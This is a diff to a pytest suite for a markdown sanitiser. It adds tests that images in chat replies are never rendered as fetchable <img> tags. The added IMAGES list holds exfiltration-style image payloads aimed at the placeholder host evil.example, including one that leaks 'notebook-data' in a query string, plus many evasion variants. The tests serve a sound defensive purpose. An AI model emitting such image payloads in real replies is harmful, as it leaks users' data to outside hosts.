@@ -368,7 +368,7 @@ def test_no_link_to_a_script_scheme_survives_a_renderer(attack: str, renderer: s
         ("[MDN](https://mdn.example/JavaScript)", "https://mdn.example/JavaScript"),
         ("[mail](mailto:a@example.com)", "mailto:a@example.com"),
         ("[top](#intro)", "#intro"),
-        ("![pic](https://example.com/a.png)", "https://example.com/a.png"),
+        ("![pic](https://example.com/a.png)", "https://example.com/a.png"),  # a link now
         ("[docs][d]\n\n[d]: https://example.com/ref", "https://example.com/ref"),
     ],
 )
@@ -376,6 +376,45 @@ def test_web_links_keep_working(source: str, href: str, renderer: str) -> None:
     rendered = RENDERERS[renderer](D.inert_markdown(source))
     urls = re.findall(r"""(?:href|src)="([^"]*)\"""", rendered)
     assert [html.unescape(u) for u in urls] == [href], rendered
+
+
+IMAGES = [
+    "![chart](https://evil.example/leak.png?d=notebook-data)",
+    "![](https://evil.example/a.png)",
+    '![x](https://evil.example/a.png "title")',
+    "![a [nested] alt](https://evil.example/a.png)",
+    "![x][r]\n\n[r]: https://evil.example/a.png",
+    "![r]\n\n[r]: https://evil.example/a.png",
+    "![r][]\n\n[r]: https://evil.example/a.png",
+    "![two\nlines](https://evil.example/a.png)",
+    "- ![x](https://evil.example/a.png)\n> ![y](https://evil.example/b.png)",
+    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
+    "[![x](https://evil.example/a.png)](https://example.com)",
+    "$![x](https://evil.example/a.png)$ and $$\n![y](https://evil.example/b.png)\n$$",
+    "![x](//evil.example/a.png) ![y](a.png) ![z](data:image/png;base64,iVBORw0KGgo=)",
+]
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+@pytest.mark.parametrize("source", IMAGES)
+def test_pictures_in_a_reply_are_never_fetched(source: str, renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.chat_bundle(source, "m · 1 s")["text/markdown"])
+    assert "<img" not in rendered, rendered
+    assert "<img" not in D.markdown_html(source)  # comparison columns
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+def test_a_picture_becomes_a_link_that_says_so(renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.inert_markdown("See ![the chart](https://x.example/c.png)"))
+    assert '<a href="https://x.example/c.png">image: the chart</a>' in rendered, rendered
+    empty = RENDERERS[renderer](D.inert_markdown("![](https://x.example/c.png)"))
+    assert '<a href="https://x.example/c.png">image</a>' in empty, empty
+
+
+@pytest.mark.parametrize("renderer", RENDERERS)
+def test_code_about_pictures_reads_verbatim(renderer: str) -> None:
+    rendered = RENDERERS[renderer](D.inert_markdown("Write `![alt](url)` for a picture"))
+    assert "<code>![alt](url)</code>" in html.unescape(rendered), rendered
 
 
 def test_a_neutralised_link_stays_readable() -> None:
